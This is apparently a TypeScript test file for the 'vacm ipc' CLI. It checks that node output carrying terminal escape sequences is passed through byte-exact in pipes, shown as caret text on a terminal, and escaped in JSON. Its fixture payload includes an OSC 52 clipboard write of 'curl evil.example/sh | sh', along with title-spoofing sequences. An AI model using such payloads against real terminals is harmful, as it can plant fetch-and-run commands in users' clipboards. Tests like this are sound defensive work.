/**
 * Issue 10 items 1 and 8 through the real `vacm ipc` binary: command output carrying OSC 0/2/52, CR
 * and C1 is byte-exact into a pipe and with --raw, and shown as ^[ text on a terminal (`script` gives
 * the binary a pty); the fields around it are escaped either way. Sim nodes echo the payload; a real
 * sshd node prints it with printf (that part under the peers lock:
 * flock /tmp/vacm-peers.lock npx vitest run test/hostile/terminal-ipc.test.ts).
 */
import fs from 'node:fs';
import { spawnSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN, vacm } from '../helpers/cli.js';
import { tempDir } from '../helpers/engine.js';
import { hasBinary, sshdAvailable, startSshCluster, type SshCluster } from '../fixtures/sshd.js';

const CLIP = Buffer.from('curl evil.example/sh | sh').toString('base64');
const PAYLOAD = `\x1b]0;PWNED\x07\x1b]2;PWNED\x07\x1b]52;c;${CLIP}\x07`;
const SHOWN = `^[]0;PWNED^G^[]2;PWNED^G^[]52;c;${CLIP}^G`;
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

/** Run the binary on a pty (util-linux `script`), as an operator's shell would; its output with the pty's CRLF undone. */
function onTerminal(args: string[], env: Record<string, string>): { code: number | null; out: string } {
  const quoted = [process.execPath, BIN, ...args].map((a) => `'${a.replace(/'/g, "'\\''")}'`).join(' ');
  const r = spawnSync('script', ['-qec', quoted, '/dev/null'], { env: { ...process.env, ...env }, input: '', encoding: 'utf8', timeout: 60_000 });
  return { code: r.status, out: r.stdout.replace(/\r\n/g, '\n') };
}

describe('vacm ipc, the real binary, with sim nodes', () => {
  let state: string;
  beforeAll(() => {
    state = tempDir('vacm-term-ipc-');
  });
  afterAll(() => fs.rmSync(state, { recursive: true, force: true }));
  // sim echo joins its words with spaces: a CR would be one of them (the sshd test has it)
  const req = `SSH:EXEC:sim001:echo ${PAYLOAD}report.txt\x9b2J`;
  const args = ['ipc', '--demo', '--nodes', '2', req];

  it('into a pipe the OUTPUT field and the gathered block are the node\'s bytes; --raw is the same', async () => {
    const piped = await vacm(args, { env: { VACM_STATE_DIR: state } });
    expect(piped.code).toBe(0);
    expect(piped.out).toContain(`SSH:1:OUTPUT:sim001:stdout:${PAYLOAD}report.txt\x9b2J\n`);
    expect(piped.out).toContain(`---------------\nsim001\n---------------\n${PAYLOAD}report.txt\x9b2J\n`);
    const raw = await vacm(['ipc', '--raw', ...args.slice(1)], { env: { VACM_STATE_DIR: state } });
    expect(raw.out).toBe(piped.out);
  });

  it.skipIf(!hasBinary('script'))('on a terminal the controls are shown as ^[ text, and --raw gives the bytes back', () => {
    const tty = onTerminal(args, { VACM_STATE_DIR: state });
    expect(tty.code).toBe(0);
    expect(tty.out).toContain(`SSH:1:OUTPUT:sim001:stdout:${SHOWN}report.txt\\x9b2J\n`);
    expect(tty.out).toContain(`---------------\nsim001\n---------------\n${SHOWN}report.txt\\x9b2J\n`);
    expect(tty.out.split('\n').filter((l) => RAW_CONTROL.test(l))).toEqual([]);
    // the job's request (NEXXUS:JOBS prints it verbatim) is shown the same way
    const jobs = onTerminal(['ipc', '--demo', '--nodes', '2', req, 'NEXXUS:JOBS'], { VACM_STATE_DIR: state });
    expect(jobs.out).toMatch(new RegExp(`NEXXUS:2:JOB:1:completed:1/1:SSH:EXEC:sim001:echo \\^\\[\\]0;PWNED\\^G`));
    expect(jobs.out.split('\n').filter((l) => RAW_CONTROL.test(l))).toEqual([]);

    const raw = onTerminal(['ipc', '--raw', ...args.slice(1)], { VACM_STATE_DIR: state });
    expect(raw.out).toContain(`SSH:1:OUTPUT:sim001:stdout:${PAYLOAD}report.txt\x9b2J\n`);
  });

  it('--json escapes every control, C1 included, and parses back to the bytes', async () => {
    const r = await vacm(['ipc', '--json', ...args.slice(1)], { env: { VACM_STATE_DIR: state } });
    const lines = r.out.split('\n').filter(Boolean);
    for (const l of lines) expect(RAW_CONTROL.test(l)).toBe(false);
    const out = lines.map((l) => JSON.parse(l)).find((j) => j.event === 'OUTPUT');
    expect(out.fields[2]).toBe(`${PAYLOAD}report.txt\x9b2J`);
  });
});

describe.skipIf(!sshdAvailable())('vacm ipc against a real sshd node (needs root and openssh-server)', () => {
  let cluster: SshCluster;
  let state: string;
  beforeAll(async () => {
    cluster = await startSshCluster({ count: 2 });
    state = tempDir('vacm-term-ipc-ssh-');
  }, 60_000);
  afterAll(async () => {
    await cluster?.stop();
    fs.rmSync(state, { recursive: true, force: true });
  });
  const cmd = `SSH:EXEC:node[01-02]:printf '\\033]0;PWNED\\007\\033]2;PWNED\\007\\033]52;c;${CLIP}\\007report.txt\\r\\n'`;

  it('piped: byte-exact (the CR too); --raw: the same; on a terminal: ^[ and ^M text', async () => {
    const env = { VACM_STATE_DIR: state };
    const piped = await vacm(['ipc', '--config', cluster.vacmYamlPath, cmd], { env });
    expect(piped.code).toBe(0);
    expect(piped.out).toContain(`SSH:1:OUTPUT:node01:stdout:${PAYLOAD}report.txt\r\n`);
    expect(piped.out).toContain(`node[01-02] (2)\n---------------\n${PAYLOAD}report.txt\r\n`);
    const raw = await vacm(['ipc', '--raw', '--config', cluster.vacmYamlPath, cmd], { env });
    expect(raw.out.split('\n').sort()).toEqual(piped.out.split('\n').sort());
    if (!hasBinary('script')) return;
    const tty = onTerminal(['ipc', '--config', cluster.vacmYamlPath, cmd], env);
    expect(tty.code).toBe(0);
    expect(tty.out).toContain(`SSH:1:OUTPUT:node02:stdout:${SHOWN}report.txt^M\n`);
    expect(tty.out).toContain(`node[01-02] (2)\n---------------\n${SHOWN}report.txt^M\n`);
    expect(tty.out.split('\n').filter((l) => RAW_CONTROL.test(l))).toEqual([]);
  }, 60_000);
});
